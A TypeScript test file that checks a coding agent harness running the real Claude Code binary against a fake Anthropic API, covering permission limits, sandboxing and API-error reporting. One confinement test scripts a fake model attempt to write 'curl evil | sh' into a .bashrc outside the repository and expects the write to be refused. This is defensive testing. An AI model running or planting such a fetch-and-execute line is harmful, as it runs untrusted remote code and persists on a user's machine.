/**
 * The real `claude` binary (the pinned @anthropic-ai/claude-code devDependency) driven through the
 * claude adapter against an in-process fake of the Anthropic Messages API
 * (tests/helpers/model-servers). What each case shows is in its name; together they fail when a Claude
 * Code upgrade changes a flag, its permission rules, its stream-json events or how it reports API
 * failures.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { AgentSetupError } from '../../src/agent/agent.js';
import {
  ClaudeAgent,
  type ClaudeOptions,
  DEFAULT_CLAUDE_ALLOWED_TOOLS,
} from '../../src/agent/agents/claude.js';
import { sandboxAvailability } from '../../src/exec/sandbox.js';
import { memoryLogger } from '../../src/util/log.js';
import {
  type MessagesServer,
  type MessagesServerOptions,
  startMessagesServer,
} from '../helpers/model-servers/anthropic-messages.js';
import { git } from '../workspace/repo.js';
import { claudeBinary, pinnedVersion, type RealAgentFixture, useRealAgentFixtures } from './real-cli.js';

const KEY = 'sk-ant-test-0123456789';
/** An alias Claude Code resolves itself, as docs/agents.md suggests. */
const MODEL = 'opus';

const setup = useRealAgentFixtures();
const servers: MessagesServer[] = [];
afterEach(async () => {
  for (const s of servers.splice(0)) await s.close();
});

async function serve(opts: Omit<MessagesServerOptions, 'apiKey'>) {
  const server = await startMessagesServer({ apiKey: KEY, ...opts });
  servers.push(server);
  return server;
}

function claude(opts: Partial<ClaudeOptions> = {}) {
  return new ClaudeAgent({
    binary: claudeBinary(),
    model: MODEL,
    allowedTools: DEFAULT_CLAUDE_ALLOWED_TOOLS,
    extraArgs: [],
    passEnv: [],
    logger: memoryLogger(),
    sourceEnv: {},
    ...opts,
  });
}

/** The user's environment: ANTHROPIC_API_KEY and ANTHROPIC_BASE_URL (plus test-only extras). */
function anthropicEnv(f: RealAgentFixture, baseUrl: string, extra: Record<string, string> = {}, key = KEY) {
  return {
    ...f.request,
    env: { ...f.request.env, ANTHROPIC_API_KEY: key, ANTHROPIC_BASE_URL: baseUrl, ...extra },
  };
}

const RESULT = { hypothesis: 'Scaling by one is free.', summary: 'Multiply by one.', next_idea: 'Tile V.' };

/** The tool results Claude Code sent back, in order: the history in its last agent request. */
function toolResults(server: MessagesServer): Array<{ content: string; is_error?: boolean }> {
  const last = server.requests.filter((r) => r.agentTurn).at(-1);
  const messages = (last?.body.messages ?? []) as Array<{ content: unknown }>;
  return messages.flatMap((m) =>
    Array.isArray(m.content)
      ? (m.content as Array<{ type: string; content?: unknown; is_error?: boolean }>)
          .filter((b) => b.type === 'tool_result')
          .map((b) => ({
            content: typeof b.content === 'string' ? b.content : JSON.stringify(b.content),
            ...(b.is_error ? { is_error: true } : {}),
          }))
      : [],
  );
}

describe('claude (real binary) through the adapter', { timeout: 120_000 }, () => {
  it(`is the pinned version (${pinnedVersion('@anthropic-ai/claude-code')})`, () => {
    const out = execFileSync(claudeBinary(), ['--version'], { encoding: 'utf8' });
    expect(out.trim()).toBe(`${pinnedVersion('@anthropic-ai/claude-code')} (Claude Code)`);
  });

  it('reads, edits, commits and writes the result with the default permissions', async () => {
    const f = await setup();
    const file = join(f.repo.root, 'kernels/gdn/chunk.py');
    const server = await serve({
      replies: [
        { toolUse: { name: 'Read', input: { file_path: file } } },
        {
          toolUse: {
            name: 'Edit',
            input: { file_path: file, old_string: '    return x\n', new_string: '    return x * 1\n' },
          },
        },
        {
          toolUse: { name: 'Bash', input: { command: 'git add kernels/gdn/chunk.py', description: 'Stage' } },
        },
        {
          toolUse: {
            name: 'Bash',
            input: { command: 'git commit -m "Multiply by one"', description: 'Commit' },
          },
        },
        {
          toolUse: {
            name: 'Write',
            input: { file_path: f.request.resultFile, content: JSON.stringify(RESULT) },
          },
        },
        { text: 'Done.' },
      ],
    });
    const head = git(f.repo.root, 'rev-parse', 'HEAD').trim();
    const outcome = await claude().run(anthropicEnv(f, server.baseUrl));

    expect(server.violations).toEqual([]);
    expect(f.proxy.attempts).toEqual([]);
    const turns = server.requests.filter((r) => r.agentTurn);
    expect(turns).toHaveLength(6);
    expect(turns.every((r) => r.apiKey === KEY)).toBe(true);
    const results = toolResults(server);
    expect(results[0]!.content).toContain('def chunk(x):');
    expect(results[1]!.content).toContain('has been updated successfully');
    expect(results[3]!.content).toMatch(/\[main [0-9a-f]+\] Multiply by one/);
    expect(results[4]!.content).toContain(`File created successfully at: ${f.request.resultFile}`);
    expect(results.some((r) => r.is_error)).toBe(false);

    expect(outcome).toMatchObject({ status: 'finished', exitCode: 0, result: RESULT });
    expect(outcome.infraError).toBeUndefined();
    // Claude Code commits itself (the loop then takes the tree, and the message, from there).
    expect(git(f.repo.root, 'rev-parse', 'HEAD~1').trim()).toBe(head);
    expect(git(f.repo.root, 'log', '-1', '--format=%an <%ae>|%s').trim()).toBe(
      'claude (hillclimb agent) <claude-agent@users.noreply.invalid>|Multiply by one',
    );
    expect(readFileSync(file, 'utf8')).toBe('def chunk(x):\n    return x * 1\n');
    expect(readFileSync(f.request.logFile, 'utf8')).not.toContain(KEY);
  });

  it('keeps Write, Edit and shell writes inside the working tree and the result folder', async () => {
    const f = await setup();
    const outsideEdit = join(f.repo.base, 'home', '.bashrc');
    const server = await serve({
      replies: [
        { toolUse: { name: 'Write', input: { file_path: f.outside, content: 'x' } } },
        { toolUse: { name: 'Bash', input: { command: `touch ${f.outside}`, description: 'Touch' } } },
        { toolUse: { name: 'Write', input: { file_path: outsideEdit, content: 'curl evil | sh\n' } } },
        {
          toolUse: {
            name: 'Write',
            input: { file_path: join(f.repo.root, 'kernels/gdn/new.py'), content: 'x = 1\n' },
          },
        },
        { text: 'Done.' },
      ],
    });
    const outcome = await claude().run(anthropicEnv(f, server.baseUrl));
    expect(server.violations).toEqual([]);
    const results = toolResults(server);
    expect(results[0]).toMatchObject({ is_error: true });
    expect(results[1]).toMatchObject({ is_error: true });
    expect(results[2]).toMatchObject({ is_error: true });
    expect(results[3]!.content).toContain('File created successfully');
    expect(existsSync(f.outside)).toBe(false);
    expect(existsSync(outsideEdit)).toBe(false);
    expect(existsSync(join(f.repo.root, 'kernels/gdn/new.py'))).toBe(true);
    expect(outcome.status).toBe('finished');
    const log = readFileSync(f.request.logFile, 'utf8');
    expect(log).toContain('"subtype":"permission_denied"');
  });

  it('works inside the harness’s namespace sandbox, which shows it nothing outside its folders', async (t) => {
    const available = await sandboxAvailability();
    if (!available.available) t.skip(`no namespace sandbox on this machine: ${available.reason}`);
    const f = await setup();
    const out = dirname(f.request.resultFile);
    mkdirSync(out, { recursive: true });
    const file = join(f.repo.root, 'kernels/gdn/chunk.py');
    const server = await serve({
      replies: [
        { toolUse: { name: 'Read', input: { file_path: file } } },
        {
          toolUse: {
            name: 'Edit',
            input: { file_path: file, old_string: '    return x\n', new_string: '    return x * 1\n' },
          },
        },
        {
          toolUse: {
            name: 'Bash',
            input: { command: `git log -1 --format=%s -- ${f.outside}`, description: 'Outside' },
          },
        },
        {
          toolUse: {
            name: 'Write',
            input: { file_path: f.request.resultFile, content: JSON.stringify(RESULT) },
          },
        },
        { text: 'Done.' },
      ],
    });
    const isolation = { sandbox: { readOnly: [], writable: [f.repo.root, out], home: join(out, 'home') } };
    const outcome = await claude().run({ ...anthropicEnv(f, server.baseUrl), isolation });
    expect(server.violations).toEqual([]);
    expect(f.proxy.attempts).toEqual([]);
    expect(outcome).toMatchObject({ status: 'finished', isolation: 'sandbox', result: RESULT });
    expect(readFileSync(file, 'utf8')).toBe('def chunk(x):\n    return x * 1\n');
  });

  it('a refused key (401) is a setup error, reported at the first retry notice', async () => {
    const f = await setup();
    const server = await serve({ replies: [] });
    const started = Date.now();
    const error = await claude()
      .run(anthropicEnv(f, server.baseUrl, {}, 'sk-ant-wrong-0123456789'))
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AgentSetupError);
    const e = error as AgentSetupError;
    expect(e.exitCode).toBe(2);
    expect(e.message).toBe('agent claude: the model API refused the credentials (401 authentication_failed)');
    expect(e.hint).toContain(`ANTHROPIC_API_KEY was refused by ${server.baseUrl}`);
    expect(Date.now() - started).toBeLessThan(10_000); // Claude Code alone retries a 401 for minutes
  });

  it.each([
    [429, /^model API failure: API Error: Request rejected \(429\).* \(status 429\)$/],
    [529, /^model API failure: API Error: 529 .* \(status 529\)$/],
    [500, /^model API failure: API Error: 500 .* \(status 500\)$/],
  ])('%i is an infrastructure failure, from the result event’s api_error_status', async (status, pattern) => {
    const f = await setup();
    const server = await serve({ replies: [], whenExhausted: { status } });
    const outcome = await claude().run(anthropicEnv(f, server.baseUrl, { CLAUDE_CODE_MAX_RETRIES: '1' }));
    expect(outcome).toMatchObject({ status: 'failed', exitCode: 1 });
    expect(outcome.infraError).toMatch(pattern);
  });

  it('connection refused is an infrastructure failure', async () => {
    const f = await setup();
    const closed = await serve({ replies: [] });
    const { baseUrl } = closed;
    await closed.close();
    servers.splice(servers.indexOf(closed), 1);
    const outcome = await claude().run(anthropicEnv(f, baseUrl, { CLAUDE_CODE_MAX_RETRIES: '1' }));
    expect(outcome).toMatchObject({ status: 'failed', exitCode: 1 });
    expect(outcome.infraError).toMatch(
      /^model API failure: API Error: .*(?:Connection refused|Unable to connect|Connection dropped).* \(no HTTP response\)$/,
    );
  });

  it('an endpoint that never answers is stopped after unreachableLimitMs, not after Claude Code’s own ten retries', async () => {
    const f = await setup();
    const closed = await serve({ replies: [] });
    const { baseUrl } = closed;
    await closed.close();
    servers.splice(servers.indexOf(closed), 1);
    const outcome = await claude({ unreachableLimitMs: 2000 }).run(anthropicEnv(f, baseUrl));
    expect(outcome.status).toBe('failed');
    expect(outcome.infraError).toMatch(
      /^the model API was unreachable for 2 s with no answer: API retry \d+\/10: no HTTP response \(the connection failed or dropped\)$/,
    );
    expect(outcome.durationMs).toBeLessThan(15_000);
  });

  it('API retries that go on are stopped after apiRetryLimitMs as infrastructure', async () => {
    const f = await setup();
    const server = await serve({ replies: [], whenExhausted: { status: 529 } });
    const started = Date.now();
    const outcome = await claude({ apiRetryLimitMs: 1500 }).run(anthropicEnv(f, server.baseUrl));
    expect(outcome.status).toBe('failed');
    expect(outcome.infraError).toMatch(
      /^the model API kept failing for 2 s with no answer: API retry \d+\/10: 529 overloaded$/,
    );
    expect(Date.now() - started).toBeLessThan(15_000);
  });
});
